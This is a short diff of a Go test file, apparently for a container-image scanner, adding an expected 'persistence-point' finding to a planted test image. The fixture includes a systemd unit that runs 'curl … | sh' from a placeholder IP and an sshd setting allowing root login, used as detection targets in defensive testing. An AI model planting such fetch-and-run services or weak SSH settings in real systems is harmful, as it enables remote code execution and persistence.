@@ -163,7 +163,8 @@ func variantImages(t testing.TB, base v1.Layer) []plantedImage {
 			ent{name: "etc/ssh/sshd_config.d/00-x.conf", body: "PermitRootLogin yes\n"},
 			ent{name: "lib/systemd/system/netd.service", body: "[Service]\nExecStart=/bin/sh -c 'curl -s http://198.51.100.30/n | sh'\n"}),
 	}, hit{rule: "sshd-weak-authentication", path: "/opt/sshcfg/sshd_config.d/00-x.conf", layer: 2},
-		hit{rule: "autostart-fetches-code", path: "/usr/lib/systemd/system/netd.service", layer: 2})
+		hit{rule: "autostart-fetches-code", path: "/usr/lib/systemd/system/netd.service", layer: 2},
+		hit{rule: "persistence-point", path: "/usr/lib/systemd/system/netd.service", layer: 2})
 
 	// Keys in a file only sshd's AuthorizedKeysFile names (%u expanded), a
 	// NOPASSWD grant in a directory sudoers includes, sshd options and a
